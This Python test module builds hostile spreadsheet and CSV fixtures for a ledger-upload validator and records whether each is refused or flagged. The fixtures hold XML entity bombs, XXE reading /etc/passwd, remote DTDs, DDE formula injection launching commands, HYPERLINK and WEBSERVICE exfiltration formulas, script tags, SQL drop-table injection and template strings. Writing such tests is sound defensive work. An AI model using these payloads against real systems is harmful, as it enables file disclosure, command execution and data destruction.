"""Which files are made to do harm by what they say: entities, programs, formulas?"""

import io
import re
from functools import partial

import xlwt

from tests.corpus.bad import LINES, Bad, harmless, refused
from tests.corpus.making import (
    BOOK,
    RELS,
    SHEET,
    STRINGS,
    book,
    changed,
    edited,
    good_xls,
    lines_csv,
    old_stream,
    page,
    page_table,
    with_parts,
)
from tests.making import ledger, text, xlsx

DAMAGED = "已损坏"
HEAD = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)
LAUGHS += "]>"
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">'
PARAMETER = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://127.0.0.1:9/x"> %a;]>'
SCRIPT = "<script>alert(1)</script>"
# Texts that a spreadsheet would run where a note is expected.
FORMULAS = {
    "command": "=cmd|'/C calc'!A0",
    "plus": "+cmd|'/C calc'!A0",
    "minus": "-2+3+cmd|'/C calc'!A0",
    "at": "@SUM(1+9)*cmd|'/C calc'!A0",
    "link": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"点这里")',
    "web": '=WEBSERVICE("http://127.0.0.1:9/"&B4)',
    "tab-before": "\t=1+1",
    "full-width": "＝1+1",
}


def _inside(part: str, declared: str, name: str = "&j;") -> bytes:
    """Return the good workbook with a document type in a part, and a use of it."""

    def change(data: bytes) -> bytes:
        data = re.sub(rb"<\?xml[^>]*\?>\s*", b"", data)
        data = data.replace("柳泉".encode(), name.encode())
        return HEAD + declared.encode() + data

    return changed(part, change)


def _in_utf16(part: str, declared: str) -> bytes:
    """Say a document type in letters of two bytes, which a look for it may miss."""

    def change(data: bytes) -> bytes:
        inner = re.sub(rb"<\?xml[^>]*\?>\s*", b"", data).decode()
        return f'<?xml version="1.0" encoding="UTF-16"?>{declared}{inner}'.encode(
            "utf-16"
        )

    return changed(part, change)


def _noted(note: str) -> bytes:
    """Return a csv with a note beside an amount."""
    return text(ledger([["柳泉", 1, note]], ["村名", "光伏", "备注"]))


def _old(kind: str) -> bytes:
    made = xlwt.Workbook()
    sheet = made.add_sheet("Sheet1")
    for row, cells in enumerate(ledger(LINES)):
        for column, cell in enumerate(cells):
            sheet.write(row, column, cell)
    if kind == "link":
        sheet.write(3, 4, xlwt.Formula('HYPERLINK("http://127.0.0.1:9/x","看")'))
    out = io.BytesIO()
    made.save(out)
    return bytes(out.getvalue())


ENTRIES: tuple[Bad, ...] = (
    *(
        refused(f"{what}-in-{where}.xlsx", partial(_inside, part, declared), DAMAGED)
        for where, part in (
            ("texts", STRINGS),
            ("sheet", SHEET),
            ("book", BOOK),
            ("links", RELS),
        )
        for what, declared in (
            ("laughs", LAUGHS),
            ("file", OUTSIDE.replace(" a ", " j ")),
        )
    ),
    refused(
        "remote-type-in-texts.xlsx", lambda: _inside(STRINGS, REMOTE, "柳泉"), DAMAGED
    ),
    refused(
        "remote-parameter-in-texts.xlsx",
        lambda: _inside(STRINGS, PARAMETER, "柳泉"),
        DAMAGED,
    ),
    refused("laughs-in-styles.xlsx", lambda: _inside("xl/styles.xml", LAUGHS), DAMAGED),
    refused(
        "laughs-in-content-types.xlsx",
        lambda: _inside("[Content_Types].xml", LAUGHS),
        DAMAGED,
    ),
    *(
        refused(
            f"laughs-of-two-bytes-in-{where}.xlsx",
            partial(_in_utf16, part, LAUGHS),
            "打不开",
        )
        for where, part in (("texts", STRINGS), ("book", BOOK), ("sheet", SHEET))
    ),
    refused(
        "entity-unknown.xlsx",
        lambda: changed(
            STRINGS, lambda data: data.replace("柳泉".encode(), b"&unknown;")
        ),
        "打不开",
    ),
    harmless(
        "picture-with-a-type.xlsx",
        lambda: with_parts(("xl/media/a.svg", REMOTE.encode())),
    ),
    harmless("page-with-entities.xls", lambda: page(OUTSIDE + page_table())),
    harmless(
        "page-with-script.xls",
        lambda: page(f"<script>document.write('<table>')</script>{page_table()}"),
    ),
    # what would run
    harmless("macros.xlsm", lambda: with_parts(("xl/vbaProject.bin", good_xls()))),
    harmless(
        "macro-sheet.xlsm",
        lambda: with_parts(
            ("xl/macrosheets/sheet1.xml", b'<xm:macrosheet xmlns:xm="x"/>')
        ),
    ),
    harmless(
        "links-to-other-books.xlsx",
        lambda: with_parts(
            ("xl/externalLinks/externalLink1.xml", b'<externalLink xmlns="x"/>')
        ),
    ),
    harmless(
        "connections.xlsx",
        lambda: with_parts(
            (
                "xl/connections.xml",
                b'<connections><connection id="1" url="http://127.0.0.1:9/"/></connections>',
            )
        ),
    ),
    harmless(
        "embedded-program.xlsx",
        lambda: with_parts(("xl/embeddings/oleObject1.bin", old_stream(b"MZ"))),
    ),
    harmless("link-in-a-cell.xls", lambda: _old("link")),
    *(
        Bad(
            f"formula-{what}.csv",
            partial(_noted, formula),
            "formula_like",
            cell="C4",
            words="改成文字或数字",
            is_error=False,
            yuan="1.00",
        )
        for what, formula in FORMULAS.items()
    ),
    Bad(
        "formula-for-a-village.csv",
        lambda: lines_csv([["=1+1", 5, 6, 7], *LINES]),
        "village_unknown",
        "",
        "A4",
        "按名录填写",
        yuan="4118.00",
    ),
    Bad(
        "formula-for-an-amount.csv",
        lambda: lines_csv([["柳泉", "=cmd|'/C calc'!A0", 6, 7]]),
        "amount_unreadable",
        "",
        "B4",
        "保存后再交",
    ),
    Bad(
        "formula-for-an-amount.xlsx",
        lambda: edited(
            SHEET,
            '<c r="B4"><v>3500</v></c>',
            "<c r=\"B4\"><f>cmd|'/C calc'!A0</f></c>",
        ),
        "amount_unreadable",
        "Sheet1",
        "B4",
        "保存后再交",
    ),
    Bad(
        "script-for-a-village.xlsx",
        lambda: book([[SCRIPT, 5, 6, 7], *LINES]),
        "village_unknown",
        "Sheet1",
        "A4",
        "按名录填写",
        yuan="4118.00",
    ),
    Bad(
        "script-for-an-amount.xlsx",
        lambda: book([["柳泉", SCRIPT, 6, 7]]),
        "amount_unreadable",
        "Sheet1",
        "B4",
        "只填数字",
    ),
    Bad(
        "script-for-a-heading.xlsx",
        lambda: xlsx(ledger([["柳泉", 1, 2]], ["村名", "光伏", SCRIPT])),
        "column_not_loaded",
        "Sheet1",
        "C3",
        "未读取",
        is_error=False,
    ),
    harmless(
        "script-for-a-sheet.xlsx",
        lambda: edited(
            BOOK, 'name="Sheet1"', 'name="&lt;img src=x onerror=alert(1)&gt;"'
        ),
    ),
    harmless(
        "script-for-a-title.xlsx",
        lambda: xlsx(ledger(LINES, title=f"河顺镇2018年6月{SCRIPT}")),
    ),
    Bad(
        "query-for-a-village.xlsx",
        lambda: book([["柳泉'; drop table core.income; --", 5, 6, 7]]),
        "village_unknown",
        "Sheet1",
        "A4",
        "按名录填写",
    ),
    Bad(
        "template-for-a-village.xlsx",
        lambda: book([["{{7*7}}${7*7}", 5, 6, 7]]),
        "village_unknown",
        "Sheet1",
        "A4",
        "按名录填写",
    ),
    Bad(
        "form-letters-for-a-village.xlsx",
        lambda: book([["{name}%s%n{0.__class__}", 5, 6, 7]]),
        "village_unknown",
        "Sheet1",
        "A4",
        "按名录填写",
    ),
    Bad(
        "terminal-letters-for-a-village.csv",
        lambda: lines_csv([["\x1b[2J\x07柳泉", 5, 6, 7]]),
        "village_unknown",
        "",
        "A4",
        "按名录填写",
    ),
)
